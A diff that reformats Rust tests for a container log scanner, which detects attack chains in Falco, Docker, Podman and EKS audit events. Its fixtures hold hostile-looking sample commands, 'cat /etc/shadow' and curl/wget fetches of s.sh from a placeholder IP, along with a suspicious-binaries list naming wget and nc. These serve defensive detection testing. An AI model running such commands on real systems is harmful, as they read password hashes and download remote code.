@@ -223,8 +223,10 @@ fn eks_audit() -> Vec<Value> {
     let events: Vec<Value> = native_audit()
         .iter()
         .enumerate()
-        .map(|(i, e)| json!({"id": format!("3800000000000000000000000000000000000000000000000000000{i}"),
-            "timestamp": T0 * 1000 + i as i64, "message": e.to_string()}))
+        .map(|(i, e)| {
+            json!({"id": format!("3800000000000000000000000000000000000000000000000000000{i}"),
+            "timestamp": T0 * 1000 + i as i64, "message": e.to_string()})
+        })
         .collect();
     vec![
         json!({"messageType":"DATA_MESSAGE","owner":"111122223333","logGroup":"/aws/eks/prod-1/cluster",
@@ -334,8 +336,22 @@ fn falco_alone_makes_a_chain_from_the_start_it_reports() {
     let f = d.jsonl(
         "falco.jsonl",
         &[
-            falco(20_000, "Read sensitive file untrusted", "/usr/bin/cat", "cat", "cat /etc/shadow", 40),
-            falco(40_000, "Drop and execute new binary in container", "/usr/bin/curl", "curl", "curl -fsSL http://198.51.100.23/s.sh", 41),
+            falco(
+                20_000,
+                "Read sensitive file untrusted",
+                "/usr/bin/cat",
+                "cat",
+                "cat /etc/shadow",
+                40,
+            ),
+            falco(
+                40_000,
+                "Drop and execute new binary in container",
+                "/usr/bin/curl",
+                "curl",
+                "curl -fsSL http://198.51.100.23/s.sh",
+                41,
+            ),
         ],
     );
     let run = scan(&[], &[&f]);
@@ -381,7 +397,14 @@ fn busybox_applets_are_judged_as_the_program_they_run() {
         "loud.jsonl",
         &[
             falco(20_000, "r", "/bin/busybox", "ls", "ls -la /tmp", 40),
-            falco(30_000, "r", "/bin/busybox", "wget", "wget -qO- http://198.51.100.23/s.sh", 42),
+            falco(
+                30_000,
+                "r",
+                "/bin/busybox",
+                "wget",
+                "wget -qO- http://198.51.100.23/s.sh",
+                42,
+            ),
         ],
     );
     let run = scan(&[], &[&loud]);
@@ -392,7 +415,9 @@ fn busybox_applets_are_judged_as_the_program_they_run() {
         run.stderr
     );
     assert!(
-        run.reasons[0].iter().any(|r| r.starts_with("ran /bin/busybox as 'wget' ('wget' in suspicious_binaries)")),
+        run.reasons[0]
+            .iter()
+            .any(|r| r.starts_with("ran /bin/busybox as 'wget' ('wget' in suspicious_binaries)")),
         "{:?}",
         run.reasons
     );
@@ -421,7 +446,9 @@ fn busybox_applets_are_judged_as_the_program_they_run() {
         run.stderr
     );
     assert!(
-        run.reasons[0].iter().any(|r| r.starts_with("ran busybox as 'nc' ('nc' in suspicious_binaries)")),
+        run.reasons[0]
+            .iter()
+            .any(|r| r.starts_with("ran busybox as 'nc' ('nc' in suspicious_binaries)")),
         "{:?}",
         run.reasons
     );
@@ -442,12 +469,14 @@ fn the_summary_names_what_each_skipped_record_was() {
     let f = d.text("falco.log", &falco_log);
     let run = scan(&["--prefilter", "off"], &[&f]);
     assert!(
-        run.stderr.contains("4  falco: startup/log line, not an alert"),
+        run.stderr
+            .contains("4  falco: startup/log line, not an alert"),
         "{}",
         run.stderr
     );
     assert!(
-        run.stderr.contains("1  falco: text alert, not read (set json_output: true)"),
+        run.stderr
+            .contains("1  falco: text alert, not read (set json_output: true)"),
         "{}",
         run.stderr
     );
@@ -469,26 +498,34 @@ fn the_summary_names_what_each_skipped_record_was() {
     );
     let run = scan(&["--prefilter", "on", "--threads", "1"], &[&docker]);
     assert!(
-        run.stderr.contains("prefiltered: 4 records no loaded analytic can use"),
+        run.stderr
+            .contains("prefiltered: 4 records no loaded analytic can use"),
         "{}",
         run.stderr
     );
     assert!(
-        run.stderr.contains("1  docker-events: network event (not used)"),
+        run.stderr
+            .contains("1  docker-events: network event (not used)"),
         "{}",
         run.stderr
     );
     assert!(
-        run.stderr.contains("2  docker-events: image event other than a pull (not used)"),
+        run.stderr
+            .contains("2  docker-events: image event other than a pull (not used)"),
         "{}",
         run.stderr
     );
     assert!(
-        run.stderr.contains("1  docker-events: exec in a container of an allowlisted image"),
+        run.stderr
+            .contains("1  docker-events: exec in a container of an allowlisted image"),
         "{}",
         run.stderr
     );
-    assert!(!run.stderr.contains("activity in allowlisted images"), "{}", run.stderr);
+    assert!(
+        !run.stderr.contains("activity in allowlisted images"),
+        "{}",
+        run.stderr
+    );
 }
 
 #[test]
@@ -506,7 +543,14 @@ fn podman_events_are_the_pull_create_and_start_of_a_podman_host() {
             json!({"ID":CID,"Image":format!("docker.io/{IMAGE}"),"Name":"worker","Status":"exec","Time":iso_ms(30_000),"Type":"container"}),
         ],
     );
-    let mut curl = falco(40_000, "r", "/usr/bin/curl", "curl", "curl -fsSL http://198.51.100.23/s.sh", 41);
+    let mut curl = falco(
+        40_000,
+        "r",
+        "/usr/bin/curl",
+        "curl",
+        "curl -fsSL http://198.51.100.23/s.sh",
+        41,
+    );
     curl["output_fields"]["container.start_ts"] = json!(0);
     curl["output_fields"]["k8s.ns.name"] = json!(null);
     curl["output_fields"]["k8s.pod.name"] = json!(null);
